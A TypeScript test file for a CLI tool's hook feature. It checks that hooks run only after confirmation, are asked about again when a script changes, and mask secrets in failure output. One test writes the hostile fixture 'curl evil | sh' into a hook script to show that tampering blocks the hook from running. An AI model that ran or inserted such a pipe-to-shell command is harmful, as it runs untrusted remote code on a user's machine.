import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import type { HookOrder } from '../../../src/commands/hooks/run-hook.js'
import { runCommandLine } from '../../../src/commands/program/command-line.js'
import { problem } from '../../../src/errors/problem.js'
import { organisationFolder } from '../../../src/state/organisation-folder.js'
import type { Hooks } from '../../../src/topology/topology.js'
import { temporaryFolder } from '../../state/temporary-folder.js'
import { emptyPlan, fakeWorld, onePlan, type Script, startOf, topology } from '../fake-world.js'

const HOOKS: Hooks = { begun: ['tell', 'begun'], done: ['tell', 'done'], failed: ['./chat.sh'] }
/** As they are asked for where somebody confirms, and where nobody does. */
const CONFIRMED = [onePlan, onePlan, emptyPlan]
const UNSEEN = [onePlan, emptyPlan]

/** A world with hooks; each run of one is kept with whether the organisation was closed by then. */
function hooked(script: Script, { state = temporaryFolder(), folder = temporaryFolder() } = {}) {
  const fake = fakeWorld({
    plans: script.answers === undefined ? UNSEEN : CONFIRMED,
    ...script,
    env: { XDG_STATE_HOME: state },
  })
  const ran: (HookOrder & { readonly isClosed: boolean })[] = []
  Object.assign(fake.organisation, {
    folder: organisationFolder(join(folder, 'org.yaml')),
    topology: { ...topology, hooks: HOOKS },
    runHook: async (order: HookOrder) => void ran.push({ ...order, isClosed: fake.isClosed() }),
  })
  const told = () => ran.map(({ input }) => JSON.parse(input) as Record<string, unknown>)
  return { ...fake, hooks: ran, told, state, folder }
}

test('what nobody has confirmed does not run, and that is said', async () => {
  const fake = hooked({})
  expect(await runCommandLine(['apply', '--yes'], fake.world)).toBe(0)
  expect(fake.hooks).toEqual([])
  expect(fake.stderr()).toContain('The hooks of org.yaml did not run: nobody has confirmed them')
})

test('confirmed once, they hear of the beginning and of the end, when nothing is held any more', async () => {
  const first = hooked({ answers: ['y', 'y'] })
  expect(await runCommandLine(['apply'], first.world)).toBe(0)
  expect(first.asked[0]).toBe('Let them run on this computer, as you, from now on? [y/N] ')
  expect(first.stderr()).toContain('  failed  ./chat.sh')

  const again = hooked({}, first)
  expect(await runCommandLine(['apply', '--yes'], again.world)).toBe(0)

  for (const { hooks, told } of [first, again]) {
    expect(hooks.map(({ event, isClosed }) => [event, isClosed])).toEqual([
      ['begun', false],
      ['done', true],
    ])
    expect(told()).toMatchObject([
      { version: 1, event: 'begun', organisation: 'bank-a', command: 'apply', actions: 1, hosts: 1 },
      { version: 1, event: 'done', organisation: 'bank-a', command: 'apply', seconds: 0, problems: [] },
    ])
  }
})

test('a script of the folder that was changed is asked about again', async () => {
  const first = hooked({ answers: ['y', 'y'] })
  mkdirSync(first.folder, { recursive: true })
  writeFileSync(join(first.folder, 'chat.sh'), 'echo hello')
  await runCommandLine(['apply'], first.world)
  expect(first.hooks).toHaveLength(2)

  writeFileSync(join(first.folder, 'chat.sh'), 'curl evil | sh')
  const again = hooked({}, first)
  await runCommandLine(['apply', '--yes'], again.world)
  expect(again.hooks).toEqual([])
})

test('a no is no: nothing runs, and the plan is carried out all the same', async () => {
  const fake = hooked({ answers: ['n', 'y'] })
  expect(await runCommandLine(['apply'], fake.world)).toBe(0)
  expect([fake.hooks.length, fake.ran.length]).toEqual([0, 1])
})

test('a failure is told with its causes and without secrets', async () => {
  const known = hooked({ answers: ['y', 'y'] })
  await runCommandLine(['apply'], known.world)
  const cause = problem('run.action-failed', { action: 'write metis-key' }, { host: 'h1', action: 'n' })
  const fake = hooked(
    {
      run: async (plan, options, emit) => {
        emit(startOf(plan, options.command))
        emit({ type: 'failed', at: '2026-01-31T12:00:00.000Z', node: 'n', problem: cause })
        return { outcome: 'failed', problems: [cause], halfDone: [] }
      },
    },
    known,
  )

  expect(await runCommandLine(['apply', '--yes'], fake.world)).toBe(1)

  const [, failed] = fake.told()
  expect(failed).toMatchObject({ event: 'failed', problems: [{ code: 'run.action-failed', host: 'h1' }] })
  expect(fake.hooks[1]?.input).not.toContain('metis-key')
})

test('a run that never began is told of only where nobody sits before it', async () => {
  const known = hooked({ answers: ['y', 'y'] })
  await runCommandLine(['apply'], known.world)
  const findings = [problem('preflight.systemd-missing', {}, { host: 'h1' })]

  const watched = hooked({ findings, answers: ['y'] }, known)
  expect(await runCommandLine(['apply'], watched.world)).toBe(1)
  const alone = hooked({ findings }, known)
  expect(await runCommandLine(['apply', '--yes'], alone.world)).toBe(1)

  expect([watched.hooks, alone.hooks].map((all) => all.map(({ event }) => event))).toEqual([[], ['failed']])
})

test('one that fails is warned of after the end, and the run stays well', async () => {
  const known = hooked({ answers: ['y', 'y'] })
  await runCommandLine(['apply'], known.world)
  const fake = hooked({}, known)
  const wrong = {
    ...problem('hook.failed', { event: 'done', command: 'tell done', status: 1 }, {}, 'warning'),
  }
  Object.assign(fake.organisation, { runHook: async () => ({ ...wrong, output: ['token metis refused'] }) })

  expect(await runCommandLine(['apply', '--yes'], fake.world)).toBe(0)
  expect(fake.stderr()).toContain('The hook for done ended with 1: tell done')
  expect(fake.stderr()).toContain('token *** refused')
})

test('nothing to do is nothing to tell', async () => {
  const known = hooked({ answers: ['y', 'y'] })
  await runCommandLine(['apply'], known.world)
  const fake = hooked({ plans: [emptyPlan] }, known)
  expect(await runCommandLine(['apply', '--yes'], fake.world)).toBe(0)
  expect(fake.hooks).toEqual([])
})

test('status tells what needs somebody once, and again when more does', async () => {
  const hooks: Hooks = { attention: ['tell'] }
  const state = temporaryFolder()
  const look = async (gathered: Script['gathered'], answers?: readonly string[]) => {
    const fake = hooked(
      { ...(gathered && { gathered }), ...(answers && { answers }) },
      { state, folder: '/org' },
    )
    Object.assign(fake.organisation, { topology: { ...topology, hooks } })
    await runCommandLine(['status', '--once'], fake.world)
    return fake.told()
  }
  const away = [{ facts: {}, problems: [problem('connection.refused', {}, { host: 'h1' })] }]

  const more = [{ ...away[0], facts: {}, problems: [problem('connection.refused', {}, { host: 'h2' })] }]
  const [first, second, third] = [await look(away, ['y']), await look(away), await look(more)]

  expect(first).toMatchObject([
    {
      event: 'attention',
      instances: [
        { instance: 'consul', state: 'unreachable' },
        { instance: 'admin', state: 'unreachable' },
      ],
      problems: [{ code: 'connection.refused', host: 'h1' }],
      all: 3,
    },
  ])
  expect(second).toEqual([])
  expect(third).toMatchObject([{ instances: [], problems: [{ host: 'h2' }], all: 3 }])
})
